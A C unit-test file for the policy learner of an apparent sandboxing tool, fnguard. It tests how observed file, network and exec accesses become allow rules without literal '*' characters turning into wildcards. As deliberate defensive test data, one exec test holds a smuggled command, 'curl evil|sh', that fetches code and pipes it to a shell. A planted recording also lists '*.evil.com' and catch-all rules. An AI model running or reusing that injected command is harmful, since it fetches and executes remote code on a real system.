// SPDX-License-Identifier: MIT
/* The learner: deduplication, merging documents, subtracting a base, judging observations. */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "learn.h"
#include "learn_diff.h"

static struct learner *fresh(void)
{
	struct learner *l = NULL;
	cr_assert_eq(learner_new(&l), 0);
	return l;
}

static char *json(const struct learner *l, const char *name, const char *const *extends)
{
	char *text = NULL;
	cr_assert_eq(learner_to_json(l, name, extends, &text), 0);
	return text;
}

#define assert_has(text, s)   cr_assert(strstr(text, s), "missing %s in\n%s", s, text)
#define assert_lacks(text, s) cr_assert(!strstr(text, s), "unexpected %s in\n%s", s, text)

static struct policy *load_text(const char *text)
{
	struct policy *p = NULL;
	struct diag_list d = {0};
	struct policy_load_opts o = {.no_extends = true};
	int r = policy_load_buffer("test", text, strlen(text), &o, &p, &d);
	cr_assert_eq(r, 0, "%s\n%s", d.n ? d.lines[0] : strerror(-r), text);
	diag_list_clear(&d);
	return p;
}

Test(learn, files_dedupe_and_union)
{
	struct learner *l = fresh();
	cr_assert_eq(learner_add_file(l, "/etc/hosts", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_add_file(l, "/etc/hosts", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_add_file(l, "/tmp/x", POLICY_RIGHT_WRITE), 0);
	cr_assert_eq(learner_add_file(l, "/tmp/x", POLICY_RIGHT_CREATE), 0);
	cr_assert_eq(learner_size(l), 2);
	char *t = json(l, "n", NULL);
	assert_has(t, "\"name\": \"n\"");
	assert_has(t, "{ \"path\": \"/etc/hosts\", \"allow\": \"r\", \"seen\": 2 }");
	assert_has(t, "{ \"path\": \"/tmp/x\", \"allow\": \"wc\", \"seen\": 2 }");
	free(t);
	/* What cannot be a rule is refused, not mangled. */
	cr_assert_eq(learner_add_file(l, "relative/path", POLICY_RIGHT_READ), -EINVAL);
	cr_assert_eq(learner_add_file(l, "/x", 0), -EINVAL);
	learner_free(l);
}

/*
 * Names an attacker chooses (an upload called "*", a probe for "dir/*", a
 * URL with host "*.*"): the learned rule covers the name, not a directory or
 * every host (review, 2026-11-23).
 */
Test(learn, observed_stars_are_not_wildcards)
{
	struct learner *l = fresh();
	cr_assert_eq(learner_add_file(l, "/srv/up/*", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_add_file(l, "/srv/**", POLICY_RIGHT_READ | POLICY_RIGHT_WRITE), 0);
	cr_assert_eq(learner_add_unix(l, "/run/*.sock", false), 0);
	cr_assert_eq(learner_add_host(l, "*.*", 443, NET_PROTO_TCP, false), -EINVAL);
	cr_assert_eq(learner_add_host(l, "*.example.com", 443, NET_PROTO_TCP, false), -EINVAL);
	char *t = json(l, NULL, NULL);
	assert_has(t, "\"/srv/up/?\"");
	assert_has(t, "\"/srv/??\"");
	assert_lacks(t, "*");
	struct policy *p = load_text(t);
	struct policy_verdict v;
	cr_assert_eq(policy_check_file(p, "/srv/up/*", 9, POLICY_RIGHT_READ, &v), 0);
	cr_assert(v.allowed);
	cr_assert_eq(policy_check_file(p, "/srv/up/secret", 14, POLICY_RIGHT_READ, &v), 0);
	cr_assert(!v.allowed);
	cr_assert_eq(policy_check_file(p, "/srv/up/x/y", 11, POLICY_RIGHT_WRITE, &v), 0);
	cr_assert(!v.allowed);
	policy_free(p);
	free(t);
	learner_free(l);
}

Test(learn, odd_names_become_valid_patterns)
{
	struct learner *l = fresh();
	cr_assert_eq(learner_add_file(l, "/tmp/a[1]{b}\\c\x01\xff", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_add_file(l, "/tmp/caf\xc3\xa9", POLICY_RIGHT_READ), 0);
	char *t = json(l, NULL, NULL);
	assert_has(t, "\"/tmp/a?1??b??c??\"");
	assert_has(t, "\"/tmp/caf\xc3\xa9\"");
	struct policy *p = load_text(t);
	struct policy_verdict v;
	const char *odd = "/tmp/a[1]{b}\\c\x01\xff";
	cr_assert_eq(policy_check_file(p, odd, strlen(odd), POLICY_RIGHT_READ, &v), 0);
	cr_assert(v.allowed);
	policy_free(p);
	free(t);
	learner_free(l);
}

Test(learn, network)
{
	struct learner *l = fresh();
	struct in_addr a4;
	struct in6_addr mapped;
	inet_pton(AF_INET, "10.1.2.3", &a4);
	inet_pton(AF_INET6, "::ffff:10.1.2.3", &mapped);
	cr_assert_eq(learner_add_host(l, "Example.COM.", 443, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_host(l, "example.com", 80, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_host(l, "example.com", 53, NET_PROTO_UDP, false), 0);
	cr_assert_eq(learner_add_ip(l, AF_INET, &a4, 5432, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_ip(l, AF_INET6, &mapped, 5433, NET_PROTO_TCP, false), 0);
	/* An address given as a name is an address. */
	cr_assert_eq(learner_add_host(l, "10.1.2.3", 5434, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_unix(l, "/run/app.sock", false), 0);
	cr_assert_eq(learner_add_unix(l, "@abs", true), 0);
	cr_assert_eq(learner_add_host(l, "bad.123", 1, NET_PROTO_TCP, false), -EINVAL);
	cr_assert_eq(learner_add_host(l, "", 1, NET_PROTO_TCP, false), -EINVAL);
	cr_assert_eq(learner_add_unix(l, "relative.sock", false), -EINVAL);
	char *t = json(l, NULL, NULL);
	assert_has(t, "{ \"host\": \"example.com\", \"ports\": [80, 443], \"proto\": \"tcp\", "
		      "\"seen\": 2 }");
	assert_has(t, "{ \"host\": \"example.com\", \"ports\": [53], \"proto\": \"udp\"");
	assert_has(t, "{ \"cidr\": \"10.1.2.3\", \"ports\": [\"5432-5434\"], \"proto\": \"tcp\", "
		      "\"seen\": 3 }");
	assert_has(t, "{ \"unix\": \"/run/app.sock\"");
	assert_has(t, "{ \"unix\": \"@abs\", \"inbound\": true");
	cr_assert_eq(learner_size(l), 5);
	/* Any port absorbs the rest. */
	cr_assert_eq(learner_add_host(l, "example.com", NET_PORT_ANY, NET_PROTO_TCP, false), 0);
	free(t);
	t = json(l, NULL, NULL);
	assert_has(t, "{ \"host\": \"example.com\", \"proto\": \"tcp\", \"seen\": 3 }");
	free(t);
	learner_free(l);
}

Test(learn, exec)
{
	struct learner *l = fresh();
	const char *argv[] = {"sh", "-c", "id", NULL};
	const char *none[] = {NULL};
	cr_assert_eq(learner_add_exec(l, "/bin/sh", (char *const *)argv), 0);
	cr_assert_eq(learner_add_exec(l, "/bin/sh", (char *const *)argv), 0);
	cr_assert_eq(learner_add_exec(l, "/bin/sh", (char *const *)none), 0);
	cr_assert_eq(learner_add_exec(l, "/bin/sh", NULL), 0);
	cr_assert_eq(learner_add_exec(l, "sh", NULL), -EINVAL);
	char *t = json(l, NULL, NULL);
	assert_has(t, "\"argv\": [\"sh\", \"-c\", \"id\"], \"seen\": 2");
	assert_has(t, "\"argv\": [], \"seen\": 1");
	assert_has(t, "{ \"path\": \"/bin/sh\", \"seen\": 1 }");
	free(t);
	learner_free(l);

	/* More arguments than a rule may hold: the last pattern takes the rest. */
	l = fresh();
	char *many[300];
	char bufs[300][16];
	for (int i = 0; i < 299; i++) {
		snprintf(bufs[i], sizeof(bufs[i]), "a%d", i);
		many[i] = bufs[i];
	}
	many[299] = NULL;
	cr_assert_eq(learner_add_exec(l, "/bin/echo", many), 0);
	t = json(l, NULL, NULL);
	assert_has(t, "\"a254\", \"**\"]");
	struct policy *p = load_text(t);
	struct policy_verdict v;
	cr_assert_eq(policy_check_exec(p, "/bin/echo", 9, many, &v), 0);
	cr_assert(v.allowed);
	policy_free(p);
	free(t);
	learner_free(l);

	/*
	 * Literal '*' in arguments (found by fuzz_learn for "**"; review,
	 * 2026-11-23, for the rest): an observed argument is never a wildcard,
	 * anywhere: "**" is "??", "*.tmp" is "?.tmp". As the last element "**"
	 * would have been "every further argument": "sh -c **" any command.
	 */
	l = fresh();
	const char *stars[] = {"**", "-c", "**", NULL};
	cr_assert_eq(learner_add_exec(l, "/bin/sh", (char *const *)stars), 0);
	const char *glob_arg[] = {"sh", "-c", "rm -f /tmp/*.tmp", NULL};
	cr_assert_eq(learner_add_exec(l, "/bin/dash", (char *const *)glob_arg), 0);
	t = json(l, NULL, NULL);
	assert_has(t, "\"argv\": [\"??\", \"-c\", \"??\"]");
	assert_has(t, "\"rm -f /tmp/?.tmp\"");
	p = load_text(t);
	cr_assert_eq(policy_check_exec(p, "/bin/sh", 7, (char *const *)stars, &v), 0);
	cr_assert(v.allowed);
	const char *other[] = {"dash", "-c", "id", NULL};
	cr_assert_eq(policy_check_exec(p, "/bin/sh", 7, (char *const *)other, &v), 0);
	cr_assert(!v.allowed, "\"??\" matches two characters only");
	cr_assert_eq(policy_check_exec(p, "/bin/dash", 9, (char *const *)glob_arg, &v), 0);
	cr_assert(v.allowed);
	const char *injected[] = {"sh", "-c", "rm -f /tmp/a;curl evil|sh;.tmp", NULL};
	cr_assert_eq(policy_check_exec(p, "/bin/dash", 9, (char *const *)injected, &v), 0);
	cr_assert(!v.allowed, "a '*' in a learned command is not a wildcard");
	policy_free(p);
	free(t);
	learner_free(l);
}

Test(learn, syscalls)
{
	struct learner *l = fresh();
	struct learn_obs o = {.kind = LEARN_OBS_SYSCALL, .name = "sendfile"};
	cr_assert_eq(learner_add(l, &o), 0);
	o.name = "ptrace"; /* dangerous: only ever by hand, under "unsafe" */
	cr_assert_eq(learner_add(l, &o), -EINVAL);
	o.name = "no_such_call";
	cr_assert_eq(learner_add(l, &o), -EINVAL);
	char *t = json(l, NULL, NULL);
	assert_has(t, "\"syscalls\": [\"sendfile\"]");
	free(t);
	learner_free(l);
}

static char dir[] = "/tmp/fnguard-test-learn-XXXXXX";

static void setup(void)
{
	cr_assert_not_null(mkdtemp(dir));
}

static void teardown(void)
{
	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	cr_assert_eq(system(cmd), 0);
}

static const char *write_doc(const char *name, const char *text)
{
	static char path[256];
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	FILE *f = fopen(path, "w");
	cr_assert_not_null(f);
	fputs(text, f);
	fclose(f);
	return path;
}

Test(learn, merge_documents, .init = setup, .fini = teardown)
{
	struct learner *l = fresh();
	struct diag_list d = {0};
	const char *a = write_doc(
		"a.json",
		"{\"fnguard\": 1, \"name\": \"first\", \"mode\": \"alert\", \"extends\": "
		"[\"lambda-base\"], \"actions\": {\"exec\": \"enforce\"},"
		" \"files\": [{\"path\": \"/etc/shadow\", \"deny\": \"rwcd\"},"
		" {\"path\": \"${LAMBDA_TASK_ROOT}/**\", \"allow\": \"r\", \"seen\": 2, \"phase\": "
		"\"invoke\"}],"
		" \"network\": [{\"host\": \"a.example\", \"ports\": [443]}], \"syscalls\": "
		"[\"sendfile\"]}");
	cr_assert_eq(learner_merge_file(l, a, &d), 0);
	const char *b = write_doc(
		"b.json",
		"{\"fnguard\": 1, \"name\": \"second\", \"mode\": \"enforce\", \"files\": ["
		" {\"path\": \"${LAMBDA_TASK_ROOT}/**\", \"allow\": \"rw\", \"seen\": 3, \"phase\": "
		"\"init\"}, {\"path\": \"/etc/shadow\", \"deny\": \"r\"}],"
		" \"network\": [{\"host\": \"a.example\", \"ports\": [80]}], \"exec\": [{\"path\": "
		"\"/bin/ls\"}],"
		" \"require\": [\"seccomp\"]}");
	cr_assert_eq(learner_merge_file(l, b, &d), 0);
	char *t = json(l, NULL, NULL);
	assert_has(t, "\"name\": \"first\"");
	assert_has(t, "\"mode\": \"alert\"");
	assert_has(t, "\"extends\": [\"lambda-base\"]");
	assert_has(t, "\"exec\": \"enforce\"");
	assert_has(t, "{ \"path\": \"${LAMBDA_TASK_ROOT}/**\", \"allow\": \"rw\", \"seen\": 5, "
		      "\"phase\": \"init\" }");
	assert_has(t, "{ \"path\": \"/etc/shadow\", \"deny\": \"rwcd\" }");
	assert_has(t, "{ \"host\": \"a.example\", \"ports\": [80, 443] }");
	assert_has(t, "\"syscalls\": [\"sendfile\"]");
	assert_has(t, "\"require\": [\"seccomp\"]");
	free(t);

	/* Invalid and missing documents. */
	const char *bad = write_doc("bad.json", "{\"fnguard\": 1, \"files\": [{\"path\": \"x\"}]}");
	cr_assert_eq(learner_merge_file(l, bad, &d), -EINVAL);
	cr_assert_gt(d.n, 0);
	diag_list_clear(&d);
	cr_assert_eq(learner_merge_file(l, "/nonexistent/p.json", &d), -ENOENT);
	learner_free(l);
}

Test(learn, fill_does_not_count_twice, .init = setup, .fini = teardown)
{
	struct learner *l = fresh();
	struct diag_list d = {0};
	cr_assert_eq(learner_add_file(l, "/etc/hosts", POLICY_RIGHT_READ), 0);
	const char *rec = write_doc(
		"rec.json", "{\"fnguard\": 1, \"files\": [{\"path\": \"/etc/hosts\", \"allow\": "
			    "\"rw\", \"seen\": 7}, {\"path\": \"/etc/new\", \"allow\": \"r\", "
			    "\"seen\": 1}], \"syscalls\": [\"sendfile\"]}");
	cr_assert_eq(learner_fill_from_file(l, rec, &d), 0);
	learner_set_unknown_phase(l, LEARNER_PHASE_INVOKE);
	char *t = json(l, NULL, NULL);
	assert_has(t, "{ \"path\": \"/etc/hosts\", \"allow\": \"rw\", \"seen\": 1, \"phase\": "
		      "\"invoke\" }");
	assert_has(t, "{ \"path\": \"/etc/new\", \"allow\": \"r\", \"seen\": 1, \"phase\": "
		      "\"invoke\" }");
	assert_lacks(t, "syscalls");
	free(t);
	learner_free(l);
}

/*
 * fnguard record's file: each process appends its document and a NUL, and
 * the whole is read document by document. A document cut short (a failed
 * write) refuses the file, as a broken single document does.
 */
Test(learn, append_then_fill, .init = setup, .fini = teardown)
{
	struct learner *a = fresh(), *b = fresh(), *l = fresh();
	struct diag_list d = {0};
	char path[300];
	snprintf(path, sizeof(path), "%s/rec.json.recording", dir);
	cr_assert_eq(learner_add_file(a, "/etc/hosts", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_add_file(b, "/etc/hosts", POLICY_RIGHT_WRITE), 0);
	cr_assert_eq(learner_add_file(b, "/tmp/out", POLICY_RIGHT_CREATE), 0);
	cr_assert_eq(learner_append_file(a, "first", path), 0);
	cr_assert_eq(learner_append_file(b, "second", path), 0);
	cr_assert_eq(learner_fill_from_file(l, path, &d), 0);
	cr_assert_eq(d.n, 0);
	char *t = json(l, NULL, NULL);
	assert_has(t, "{ \"path\": \"/etc/hosts\", \"allow\": \"rw\"");
	assert_has(t, "{ \"path\": \"/tmp/out\", \"allow\": \"c\"");
	free(t);

	/* A link planted at the name is not written through. */
	char link[300];
	snprintf(link, sizeof(link), "%s/link.recording", dir);
	cr_assert_eq(symlink(path, link), 0);
	cr_assert_eq(learner_append_file(a, "first", link), -ELOOP);

	/*
	 * A document cut short (its writer killed), then another's: the cut
	 * one is left out and said, the next one is read whole.
	 */
	FILE *f = fopen(path, "a");
	cr_assert_not_null(f);
	fputs("{\"fnguard\": 1, \"files\": [{\"path\": \"/x\"", f);
	fclose(f);
	struct learner *c = fresh();
	cr_assert_eq(learner_add_file(c, "/var/after", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_append_file(c, "third", path), 0);
	struct learner *m = fresh();
	cr_assert_eq(learner_fill_from_file(m, path, &d), 0);
	cr_assert(d.n > 0 && strstr(d.lines[d.n - 1], "1 of 4 parts of the recording"), "%s",
		  d.n ? d.lines[d.n - 1] : "no diagnostic");
	diag_list_clear(&d);
	t = json(m, NULL, NULL);
	assert_has(t, "\"/var/after\"");
	assert_has(t, "\"/tmp/out\"");
	free(t);
	learner_free(m);
	learner_free(c);

	/* Nothing readable at all: refused, as a single broken document is. */
	const char *bad = write_doc("bad.recording", "{\"fnguard\": 1, \"files\": [");
	m = fresh();
	cr_assert_eq(learner_fill_from_file(m, bad, &d), -EINVAL);
	diag_list_clear(&d);
	learner_free(m);
	learner_free(a);
	learner_free(b);
	learner_free(l);
}

/*
 * The recording is written by the recorded tree itself: a process there can
 * write "/**" into it. Only what the learner could have written (observed
 * names, no '*') is taken (review, 2026-11-23).
 */
Test(learn, fill_takes_observed_names_only, .init = setup, .fini = teardown)
{
	struct learner *l = fresh();
	struct diag_list d = {0};
	const char *rec = write_doc(
		"rec.json",
		"{\"fnguard\": 1, \"files\": [{\"path\": \"/**\", \"allow\": \"rwcd\"}, "
		"{\"path\": \"/etc/new\", \"allow\": \"r\"}], \"network\": [{\"host\": "
		"\"*.evil.com\"}, {\"host\": \"api.example.com\", \"ports\": [443]}, "
		"{\"cidr\": \"0.0.0.0/0\"}, {\"cidr\": \"10.1.2.3\", \"ports\": [5432]}], "
		"\"exec\": [{\"path\": \"/bin/sh\", \"argv\": [\"sh\", \"-c\", \"*\"]}, "
		"{\"path\": \"/usr/bin/*\"}, {\"path\": \"/bin/true\"}]}");
	cr_assert_eq(learner_fill_from_file(l, rec, &d), 0);
	cr_assert_eq(d.n, 1);
	cr_assert(strstr(d.lines[0], "5 rules with wildcards dropped"), "%s", d.lines[0]);
	char *t = json(l, NULL, NULL);
	assert_lacks(t, "*");
	assert_lacks(t, "0.0.0.0");
	assert_has(t, "\"10.1.2.3\"");
	assert_has(t, "\"/etc/new\"");
	assert_has(t, "\"api.example.com\"");
	assert_has(t, "\"/bin/true\"");
	free(t);
	diag_list_clear(&d);
	learner_free(l);
}

static struct policy *base(void)
{
	return load_text(
		"{\"fnguard\": 1, \"files\": [{\"path\": \"/tmp/**\", \"allow\": \"rwcd\"},"
		" {\"path\": \"/etc/hosts\", \"allow\": \"r\"}, {\"path\": \"/etc/**\", \"allow\": "
		"\"r\"}, {\"path\": \"/etc/shadow\", \"deny\": \"r\"}],"
		" \"network\": [{\"host\": \"*.example.com\", \"ports\": [443]}, {\"host\": "
		"\"*.example.com\", \"ports\": [80]}, {\"cidr\": \"10.0.0.0/8\"}],"
		" \"exec\": [{\"path\": \"/bin/echo\", \"argv\": [\"echo\", \"**\"]}]}");
}

Test(learn, drop_covered)
{
	struct learner *l = fresh();
	struct policy *b = base();
	struct in_addr a4;
	inet_pton(AF_INET, "10.9.9.9", &a4);
	cr_assert_eq(learner_add_file(l, "/tmp/x", POLICY_RIGHT_READ | POLICY_RIGHT_WRITE), 0);
	cr_assert_eq(learner_add_file(l, "/etc/hosts", POLICY_RIGHT_READ | POLICY_RIGHT_WRITE), 0);
	cr_assert_eq(learner_add_file(l, "/etc/shadow", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_add_file(l, "/var/data", POLICY_RIGHT_READ), 0);
	cr_assert_eq(learner_add_host(l, "api.example.com", 443, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_host(l, "api.example.com", 80, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_host(l, "api.example.com", 8080, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_host(l, "example.com", 443, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_ip(l, AF_INET, &a4, 5432, NET_PROTO_TCP, false), 0);
	const char *echo[] = {"echo", "hi", NULL}, *cat[] = {"cat", NULL};
	cr_assert_eq(learner_add_exec(l, "/bin/echo", (char *const *)echo), 0);
	cr_assert_eq(learner_add_exec(l, "/bin/cat", (char *const *)cat), 0);
	/* Patterns too: contained in a base rule. */
	struct learner *g = fresh();
	cr_assert_eq(learner_add_file(g, "/tmp/tmpa8Zk2q9x/out", POLICY_RIGHT_WRITE), 0);
	struct learn_options o;
	learn_options_init(&o);
	cr_assert_eq(learner_generalize(g, &o), 0);
	cr_assert_eq(learner_drop_covered(g, b), 1);
	learner_free(g);

	size_t dropped = learner_drop_covered(l, b);
	char *t = json(l, NULL, NULL);
	cr_assert_eq(dropped, 3, "%zu dropped:\n%s", dropped, t);
	/* Rights the base gives are left out; the rest stays. */
	assert_has(t, "{ \"path\": \"/etc/hosts\", \"allow\": \"w\"");
	assert_has(t, "{ \"path\": \"/etc/shadow\", \"allow\": \"r\"");
	assert_has(t, "{ \"path\": \"/var/data\"");
	assert_lacks(t, "/tmp/x");
	/* Ports spread over two base rules still cover; 8080 is new. */
	assert_has(t, "\"ports\": [8080]");
	assert_lacks(t, "\"ports\": [80, 443, 8080]");
	assert_has(t, "{ \"host\": \"example.com\"");
	assert_lacks(t, "10.9.9.9");
	assert_lacks(t, "/bin/echo");
	assert_has(t, "/bin/cat");
	free(t);
	policy_free(b);
	learner_free(l);
}

Test(learn, drop_redundant)
{
	struct learner *l = fresh();
	struct diag_list d = {0};
	const char *doc =
		"{\"fnguard\": 1, \"files\": [{\"path\": \"/tmp/**\", \"allow\": \"rw\"},"
		" {\"path\": \"/tmp/a\", \"allow\": \"r\"}, {\"path\": \"/tmp/b\", "
		"\"allow\": \"rwc\"}, {\"path\": \"/tmp/c\", \"deny\": \"w\"}],"
		" \"network\": [{\"host\": \"*.x.com\"}, {\"host\": \"a.x.com\", \"ports\": "
		"[1]}],"
		" \"exec\": [{\"path\": \"/bin/*\"}, {\"path\": \"/bin/ls\", \"argv\": "
		"[\"ls\"]}]}";
	cr_assert_eq(learner_merge_text(l, "doc", doc, strlen(doc), &d), 0);
	cr_assert_eq(learner_drop_redundant(l), 3);
	char *t = json(l, NULL, NULL);
	assert_lacks(t, "\"/tmp/a\"");
	assert_has(t, "\"/tmp/b\"");
	assert_has(t, "{ \"path\": \"/tmp/c\", \"deny\": \"w\" }");
	assert_lacks(t, "a.x.com");
	assert_lacks(t, "/bin/ls");
	free(t);
	learner_free(l);
}

Test(learn, to_json_name_and_extends)
{
	struct learner *l = fresh();
	const char *ext[] = {"lambda-base", "python", NULL};
	cr_assert_eq(learner_add_file(l, "/x", POLICY_RIGHT_READ), 0);
	char *t = json(l, "fn", ext);
	assert_has(t, "\"name\": \"fn\"");
	assert_has(t, "\"extends\": [\"lambda-base\", \"python\"]");
	free(t);
	t = json(l, NULL, NULL);
	assert_lacks(t, "\"name\"");
	assert_lacks(t, "extends");
	free(t);
	learner_free(l);
}

Test(learn, obs_check)
{
	struct policy *b = base();
	struct policy_verdict v;
	struct learn_obs f = {.kind = LEARN_OBS_FILE, .name = "/etc/passwd", .rights = 1};
	cr_assert_eq(learn_obs_check(b, &f, &v), 0);
	cr_assert(v.allowed);
	f.name = "/etc/shadow";
	cr_assert_eq(learn_obs_check(b, &f, &v), 0);
	cr_assert(!v.allowed);
	f.name = "relative";
	cr_assert_eq(learn_obs_check(b, &f, &v), -EINVAL);
	struct learn_obs h = {.kind = LEARN_OBS_HOST,
			      .name = "a.example.com",
			      .port = 443,
			      .proto = NET_PROTO_TCP};
	cr_assert_eq(learn_obs_check(b, &h, &v), 0);
	cr_assert(v.allowed);
	h.port = 22;
	cr_assert_eq(learn_obs_check(b, &h, &v), 0);
	cr_assert(!v.allowed);
	struct learn_obs ip = {
		.kind = LEARN_OBS_IP, .family = AF_INET, .addr = {10, 0, 0, 1}, .port = 1};
	cr_assert_eq(learn_obs_check(b, &ip, &v), 0);
	cr_assert(v.allowed);
	ip.inbound = true; /* the cidr rule is outbound only */
	cr_assert_eq(learn_obs_check(b, &ip, &v), 0);
	cr_assert(!v.allowed);
	struct learn_obs u = {.kind = LEARN_OBS_UNIX, .name = "@x"};
	cr_assert_eq(learn_obs_check(b, &u, &v), 0);
	cr_assert(!v.allowed);
	const char *argv[] = {"echo", "x", "y", NULL};
	struct learn_obs e = {
		.kind = LEARN_OBS_EXEC, .name = "/bin/echo", .argv = (char *const *)argv};
	cr_assert_eq(learn_obs_check(b, &e, &v), 0);
	cr_assert(v.allowed);
	struct learn_obs s = {.kind = LEARN_OBS_SYSCALL, .name = "sendfile"};
	cr_assert_eq(learn_obs_check(b, &s, &v), 0);
	cr_assert(!v.allowed);
	policy_free(b);
}
